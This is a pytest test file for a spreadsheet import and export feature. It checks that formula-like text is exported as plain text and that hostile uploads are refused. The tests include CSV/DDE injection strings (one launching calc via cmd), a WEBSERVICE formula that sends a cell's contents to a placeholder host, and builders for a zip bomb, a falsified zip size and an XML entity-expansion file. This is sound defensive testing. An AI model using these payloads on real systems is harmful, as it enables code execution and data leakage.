"""A return as a spreadsheet: out as words only, in as a stranger's file of which nothing is believed."""

from __future__ import annotations

import csv
import zipfile
from datetime import date
from io import BytesIO, StringIO

import pytest
from openpyxl import Workbook, load_workbook

from mars_voice.exports.section11_xlsx import heads, return_csv, return_xlsx
from mars_voice.services import section11_files, section11_return, section11_sheet
from mars_voice.services.section11_return import Answered
from models.errors import NotAllowed
from models.floor import SelfScore
from models.return_sheet import SpreadsheetUnfit
from models.section11 import ReturnClosed
from tests.house import NOON, House
from tests.services.section11 import CODES, filled, held, opened, return_of, wrote

HOSTILE = ('=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "https://x.example/=1")


@pytest.fixture
def mine(house: House) -> str:
    opened(house)
    return return_of(house.agency)


def a_book(*rows: tuple, title: str = "Return", top: tuple[tuple, ...] = ()) -> Workbook:
    book = Workbook()
    page = book.worksheets[0]
    page.title = title
    for row in (*top, heads(), *rows):
        page.append(row)
    return book


def packed(book: Workbook) -> bytes:
    written = BytesIO()
    book.save(written)
    return written.getvalue()


def bring(house: House, return_id: str, data: bytes) -> section11_files.Brought:
    return section11_files.bring_in(house.bob, return_id, data, at=NOON)


def altered(data: bytes, **parts: bytes) -> bytes:
    """The same file with parts added or replaced; ``__`` stands for ``/``."""
    named = {
        name.replace("__", "/").replace("_xml", ".xml").replace("_bin", ".bin"): body for name, body in parts.items()
    }
    written = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.infolist():
            if part.filename not in named:
                new.writestr(part.filename, old.read(part))
        for name, body in named.items():
            new.writestr(name, body)
    return written.getvalue()


@pytest.mark.parametrize("write", [return_xlsx, return_csv])
def test_what_goes_out_comes_back_the_same(house: House, mine: str, write) -> None:
    filled(house, mine)
    hard = Answered("partly", "Line one\nLine two, “quoted”; and =1+1", "- Train\t all", "Head of Care", "2027-03-04")
    wrote(house.bob, mine, "A4", hard, at=NOON)
    data = write(section11_files.sheet_of(house.bob, mine))
    wrote(house.bob, mine, "A4", Answered(), at=NOON)
    assert bring(house, mine, data) == section11_files.Brought(len(CODES), ())
    a4 = held(mine).answer_to("A4")
    assert (a4.score, a4.due, a4.owner) == (SelfScore.PARTLY, date(2027, 3, 4), "Head of Care")
    assert (a4.words, a4.action) == (hard.words, hard.action)


@pytest.mark.parametrize("words", HOSTILE)
def test_words_that_look_like_a_formula_or_an_address_go_out_as_text(house: House, mine: str, words: str) -> None:
    wrote(house.bob, mine, "A1", Answered("met", words), at=NOON)
    sheet = section11_files.sheet_of(house.bob, mine)
    cell = load_workbook(BytesIO(return_xlsx(sheet))).worksheets[0]["D2"]
    assert (cell.data_type, cell.value, cell.hyperlink) == ("s", words, None)
    xml = zipfile.ZipFile(BytesIO(return_xlsx(sheet))).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    read = list(csv.reader(StringIO(return_csv(sheet).decode("utf-8-sig"), newline="")))
    assert not read[1][3].startswith(("=", "+", "-", "@"))


def test_an_empty_return_goes_out_with_every_question(house: House) -> None:
    opened(house, focus="How do you hear those who do not speak?")
    page = load_workbook(BytesIO(return_xlsx(section11_files.sheet_of(house.bob, return_of(house.agency))))).worksheets[
        0
    ]
    assert [cell.value for cell in page["A"]][1:] == [*CODES, "F1"]
    assert page["B10"].value == "How do you hear those who do not speak?"


def test_control_characters_cannot_spoil_the_file(house: House, mine: str) -> None:
    wrote(house.bob, mine, "A1", Answered("met", "Bell\x07 and \x1b[31m escape"), at=NOON)
    assert return_xlsx(section11_files.sheet_of(house.bob, mine))


def test_each_cell_that_cannot_be_read_is_named_and_nothing_is_saved(house: House, mine: str) -> None:
    rows = (
        ("A1", "", "met", "Good", "", "", ""),
        ("A9", "", "met", "", "", "", ""),
        ("A3", "", "fine", "", "", "", "soon"),
        ("A1", "", "met", "Again", "", "", ""),
        ("A5", "", "met", "x" * 4001, "", "", ""),
    )
    brought = bring(house, mine, packed(a_book(*rows)))
    assert brought.saved == 0
    assert list(brought.problems) == [
        "Row 3, column A: there is no standard A9.",
        "Row 4, column C: fine is no score. Write met, partly met or not met.",
        "Row 4, column G: soon is no date. Write it as 2027-03-04.",
        "Row 6, column D: this is longer than 4,000 letters.",
        "Row 5, column A: A1 stands there twice.",
    ]
    assert held(mine).answers == []


@pytest.mark.parametrize("formula", ["=1+1", '=WEBSERVICE("http://x.example/"&D2)', "=A1"])
def test_a_formula_is_named_and_never_evaluated(house: House, mine: str, formula: str) -> None:
    brought = bring(house, mine, packed(a_book(("A1", "", "met", formula, "", "", ""))))
    assert brought.problems == ("Row 2, column D: a formula stands there. Write the words or the date itself.",)
    assert held(mine).answers == []


def test_an_error_of_a_sheet_is_named(house: House, mine: str) -> None:
    book = a_book(("A1", "", "met", "", "", "", ""))
    book.worksheets[0]["D2"].value, book.worksheets[0]["D2"].data_type = "#REF!", "e"
    assert bring(house, mine, packed(book)).problems == ("Row 2, column D: the sheet shows an error there.",)


def test_hidden_sheets_are_not_looked_at(house: House, mine: str) -> None:
    book = a_book(("A1", "", "not met", "Hidden", "", "", ""), title="Secret")
    for state in ("hidden", "veryHidden"):
        book.worksheets[0].sheet_state = state
        if len(book.worksheets) == 1:
            page = book.create_sheet("Return")
            for row in (heads(), ("A1", "", "met", "Seen", "", "", "")):
                page.append(row)
            book.active = 1
        assert bring(house, mine, packed(book)).saved == 1
        assert held(mine).answer_to("A1").words == "Seen"


def test_rows_above_columns_moved_and_days_of_this_country_are_understood(house: House, mine: str) -> None:
    turned = tuple(reversed(heads()))
    book = Workbook()
    page = book.worksheets[0]
    for row in (("Our own title",), (), turned, ("4/3/2027", "Head of Care", "Train", "Why", "Partly met", "", "a 1")):
        page.append(row)
    assert bring(house, mine, packed(book)) == section11_files.Brought(1, ())
    a1 = held(mine).answer_to("A1")
    assert (a1.score, a1.due, a1.action) == (SelfScore.PARTLY, date(2027, 3, 4), "Train")


def test_a_row_that_says_nothing_changes_nothing(house: House, mine: str) -> None:
    wrote(house.bob, mine, "A2", Answered("met", "Kept"), at=NOON)
    rows = (("A1", "Leadership", "met", "New", "", "", ""), ("A2", "Clear", "", "", "", "", ""))
    assert bring(house, mine, packed(a_book(*rows))).saved == 1
    assert held(mine).answer_to("A2").words == "Kept"


def test_a_file_without_the_heads_or_without_a_word_is_told(house: House, mine: str) -> None:
    assert "No sheet with the heads" in bring(house, mine, packed(Workbook())).problems[0]
    assert "No sheet with the heads" in bring(house, mine, b"a,b,c\n1,2,3\n").problems[0]
    assert bring(house, mine, packed(a_book(("A1", "Leadership", "", "", "", "", "")))).problems == (
        "Nothing is filled in.",
    )


def _bomb() -> bytes:
    return altered(packed(a_book()), xl__media__big_xml=b"0" * (section11_sheet.UNPACKED + 1))


def _liar() -> bytes:
    """A part that says it is small, and is not."""
    data = bytearray(_bomb())
    at = data.rindex(b"PK\x01\x02", 0, data.index(b"xl/media/big.xml", data.index(b"PK\x01\x02")))
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(data)


def _entities() -> bytes:
    laughs = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><sst>&b;</sst>'
    return altered(packed(a_book()), xl__sharedStrings_xml=laughs)


@pytest.mark.parametrize(
    ("make", "rule"),
    [
        (lambda: b"PK" + b"\x00" * section11_sheet.LIMIT, "big"),
        (_bomb, "big"),
        (_liar, "broken"),
        (_entities, "broken"),
        (lambda: altered(packed(a_book()), xl__externalLinks__externalLink1_xml=b"<x/>"), "links"),
        (lambda: altered(packed(a_book()), xl__vbaProject_bin=b"\x01"), "links"),
        (lambda: altered(packed(a_book()), xl__connections_xml=b"<x/>"), "links"),
        (lambda: altered(packed(a_book()), **{f"p{n}_xml": b"<x/>" for n in range(120)}), "big"),
        (lambda: altered(packed(a_book()), xl__workbook_xml=b"<not"), "broken"),
        (lambda: altered(packed(a_book()), xl__workbook_xml="<x/>".encode("utf-16")), "broken"),
        (lambda: packed(a_book())[:900], "broken"),
        (lambda: b"PK\x03\x04 and nothing more", "broken"),
        (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "broken"),
        (lambda: packed(a_book(*[("A1", "", "met", "x", "", "", "")] * 500)), "rows"),
        (lambda: b"a\n" * 1000, "rows"),
        (lambda: b'"never closed', "broken"),
    ],
)
def test_a_hostile_or_broken_file_is_refused_by_name(house: House, mine: str, make, rule: str) -> None:
    with pytest.raises(SpreadsheetUnfit) as refused:
        bring(house, mine, make())
    assert refused.value.params["rule"] == rule
    assert held(mine).answers == []


def test_a_cell_far_away_costs_nothing(house: House, mine: str) -> None:
    book = a_book(("A1", "", "met", "Here", "", "", ""))
    book.worksheets[0].cell(1_048_576, 16_384, "far")
    assert bring(house, mine, packed(book)).saved == 1


@pytest.mark.parametrize("mark", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252"])
def test_csv_of_any_program_is_read(house: House, mine: str, mark: str, encoding: str) -> None:
    written = StringIO(newline="")
    writer = csv.writer(written, delimiter=mark)
    writer.writerows([heads(), ("A1", "", "met", "Café, “open”", "", "", "")])
    assert bring(house, mine, written.getvalue().encode(encoding)).saved == 1
    assert held(mine).answer_to("A1").words == "Café, “open”"


def test_words_in_csv_that_look_like_a_formula_are_words(house: House, mine: str) -> None:
    written = StringIO(newline="")
    csv.writer(written).writerows([heads(), ("A1", "", "met", "=1+1", "'-x", "", "")])
    bring(house, mine, written.getvalue().encode())
    a1 = held(mine).answer_to("A1")
    assert (a1.words, a1.action) == ("=1+1", "-x")


def test_only_its_agency_brings_it_in_and_only_while_it_is_open(house: House, mine: str) -> None:
    data = packed(a_book(("A1", "", "met", "x", "", "", "")))
    for who in (house.alice, house.carol, house.ruth):
        with pytest.raises(NotAllowed):
            section11_files.bring_in(who, mine, data, at=NOON)
    with pytest.raises(NotAllowed):
        section11_files.sheet_of(house.carol, mine)
    filled(house, mine)
    section11_return.hand_in(house.bob, mine, at=NOON)
    with pytest.raises(ReturnClosed):
        bring(house, mine, data)
